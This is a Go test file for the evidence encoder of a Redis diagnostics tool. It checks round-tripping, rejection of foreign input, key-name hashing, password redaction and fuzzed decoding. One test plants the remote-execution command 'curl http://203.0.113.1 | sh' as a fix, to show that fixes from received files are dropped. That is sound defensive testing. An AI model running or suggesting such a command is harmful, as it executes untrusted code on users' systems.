package evidence_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/olympiades-ia/olymp-cache/internal/config"
	"github.com/olympiades-ia/olymp-cache/internal/evidence"
	"github.com/olympiades-ia/olymp-cache/internal/facts/snapshot"
	"github.com/olympiades-ia/olymp-cache/internal/finding"
	"github.com/olympiades-ia/olymp-cache/internal/probe/trace"
	"github.com/olympiades-ia/olymp-cache/internal/surround/scene"
)

func sample() *evidence.Evidence {
	at := time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)
	slow := snapshot.SlowCommand{ID: 1, Args: []snapshot.Text{"GET", "user:42:cart", "user:43"}}
	acl := snapshot.SlowCommand{ID: 2, Args: []snapshot.Text{"CONFIG", "GET", "maxmemory"}}
	return &evidence.Evidence{
		Schema: evidence.Schema, Version: "test", Taken: at, Duration: time.Second, CommandsSent: 30,
		Target:   evidence.Target{URL: "redis://:***@h:6379/0", Host: "h", Port: 6379, Password: &evidence.Shape{Length: 5, Blank: true}},
		Settings: evidence.Settings{Enabled: true, AlertMemory: 0.8, Groups: map[string][]string{"vitrine": {"vitrine_cache"}}},
		Config: []finding.Finding{{ID: "config-url-quotes", Severity: finding.Warning, Evidence: []finding.Evidence{
			{Name: "line", Value: int64(3)}, {Name: "ratio", Value: 1.0, Unit: "ratio"}, {Name: "file", Value: ".env"}, {Name: "set", Value: true},
		}}},
		Trace: trace.Trace{
			Steps: []finding.Step{{Name: "dns", Status: finding.OK, Duration: time.Millisecond}},
			Failure: &trace.Failure{Rung: "tcp", Unreachable: true, Finding: finding.Finding{
				ID: "tcp-refused", Severity: finding.Critical, Evidence: []finding.Evidence{{Name: "port", Value: int64(6379)}},
			}},
			Dials: []trace.Dial{{Address: "127.0.0.1", Problem: trace.Refused}},
		},
		Around: scene.Surroundings{OS: "linux", Overcommit: scene.Fact[int]{Status: scene.OK, Value: 1}},
		Server: &snapshot.Snapshot{Schema: snapshot.Schema, Time: at, Nodes: []snapshot.Node{{
			Addr:    "h:6379",
			Slowlog: snapshot.Fact[[]snapshot.SlowCommand]{Status: snapshot.OK, Value: []snapshot.SlowCommand{slow, acl}},
			ACLLog: snapshot.Fact[[]snapshot.Denial]{Status: snapshot.OK, Value: []snapshot.Denial{
				{Reason: "key", Object: "user:42"}, {Reason: "command", Object: "flushall"},
			}},
		}}},
		Keys: snapshot.Fact[evidence.Keys]{Status: snapshot.OK, Value: evidence.Keys{
			Asked:    []evidence.Key{{Name: "user:42:cart", Prefix: "user:*", TTL: snapshot.Some(int64(-1))}},
			Prefixes: []evidence.Prefix{{Name: "user:*", Count: 3}, {Name: "vitrine_cache", Count: 1}},
			Groups:   []evidence.Group{{Name: "vitrine", Key: "vitrine_cache", Alike: []snapshot.Text{"prod:vitrine_cache"}}},
		}},
	}
}

func TestRoundTrip(t *testing.T) {
	t.Parallel()
	var file bytes.Buffer
	if err := evidence.Encode(&file, sample()); err != nil {
		t.Fatal(err)
	}
	got, err := evidence.Decode(&file)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(sample(), got); diff != "" {
		t.Errorf("what was saved is not what was read (-want +got):\n%s", diff)
	}
}

// TestNoFixesFromFiles: a file that somebody sends must not be able to say what to type.
func TestNoFixesFromFiles(t *testing.T) {
	t.Parallel()
	e := sample()
	evil := []finding.Fix{{ID: "check-host", Command: "curl http://203.0.113.1 | sh"}}
	e.Config[0].Fixes = evil
	e.Trace.Failure.Finding.Fixes = evil
	e.Trace.Steps[0].Problem = &finding.Finding{ID: "x", Fixes: evil}
	e.API = []finding.Step{{Name: "api", Problem: &finding.Finding{ID: "y", Fixes: evil}}}
	var file bytes.Buffer
	if err := evidence.Encode(&file, e); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(file.String(), "203.0.113.1") {
		t.Fatal("the file holds no fix: the test shows nothing")
	}
	got, err := evidence.Decode(&file)
	if err != nil {
		t.Fatal(err)
	}
	again, err := json.Marshal(got)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(again), "203.0.113.1") {
		t.Error("a fix came out of the file")
	}
}

func TestForeignFiles(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"", "{", "[]", "null", `{"schema":"olymp-cache/facts/v1"}`, "\x00\x01", strings.Repeat("[", 20000),
		`{"schema":"olymp-cache/evidence/v1"}`,
	} {
		if _, err := evidence.Decode(strings.NewReader(text)); err == nil {
			t.Errorf("%.20q was taken for evidence", text)
		}
	}
	if _, err := evidence.Decode(strings.NewReader(`{"schema":"x"}`)); !errors.Is(err, evidence.ErrSchema) {
		t.Errorf("another format: %v", err)
	}
}

func TestHash(t *testing.T) {
	t.Parallel()
	e := sample()
	evidence.Hash(e, []byte("salt"))
	var file bytes.Buffer
	if err := evidence.Encode(&file, e); err != nil {
		t.Fatal(err)
	}
	text := file.String()
	for _, name := range []string{"user", "42", "cart", "prod"} {
		if strings.Contains(text, name+":") || strings.Contains(text, ":"+name) {
			t.Errorf("%q is still in the file", name)
		}
	}
	for _, kept := range []string{"vitrine_cache", "flushall", "CONFIG", `"GET"`, `"names_hashed": true`} {
		if !strings.Contains(text, kept) {
			t.Errorf("%q should have stayed", kept)
		}
	}
	k := e.Keys.Value
	head, _, _ := strings.Cut(string(k.Asked[0].Name), ":")
	if prefix, _, _ := strings.Cut(string(k.Prefixes[0].Name), ":"); prefix != head {
		t.Errorf("equal parts became %q and %q", head, prefix)
	}
	other := sample()
	evidence.Hash(other, []byte("other"))
	if other.Keys.Value.Asked[0].Name == k.Asked[0].Name {
		t.Error("another salt gives the same names")
	}
}

func TestTargetHoldsNoSecret(t *testing.T) {
	t.Parallel()
	unset := func(string) (string, bool) { return "", false }
	for url, want := range map[string]evidence.Shape{
		"redis://:S3cretWord@h":          {Length: 10},
		"redis://app:%22S3cretWord%22@h": {Length: 12, Quoted: true},
		"redis://:S3cretWord%0A@h":       {Length: 11, Blank: true, Unprintable: true},
		"redis://:S3cret%2540Word@h":     {Length: 13, Escaped: true},
		"redis://:S3cretWord%24PW@h":     {Length: 13, Variable: true},
	} {
		cfg, err := config.Load(config.Input{URL: url, URLSet: true, LookupEnv: unset})
		if err != nil {
			t.Fatal(err)
		}
		target := evidence.TargetOf(cfg.Target)
		text, err := json.Marshal(target)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(string(text), "S3cret") {
			t.Errorf("%s: the secret is in %s", target.URL, text)
		}
		if diff := cmp.Diff(&want, target.Password); diff != "" {
			t.Errorf("%s (-want +got):\n%s", target.URL, diff)
		}
	}
}

func FuzzDecode(f *testing.F) {
	var file bytes.Buffer
	if err := evidence.Encode(&file, sample()); err != nil {
		f.Fatal(err)
	}
	f.Add(file.Bytes())
	f.Add([]byte(`{"schema":"olymp-cache/evidence/v1","config":[{"evidence":[{"value":1e400}]}]}`))
	f.Fuzz(func(t *testing.T, raw []byte) {
		e, err := evidence.Decode(bytes.NewReader(raw))
		if err != nil {
			return
		}
		evidence.Hash(e, []byte("salt"))
		if err := evidence.Encode(&bytes.Buffer{}, e); err != nil {
			t.Errorf("what was read cannot be written: %v", err)
		}
	})
}
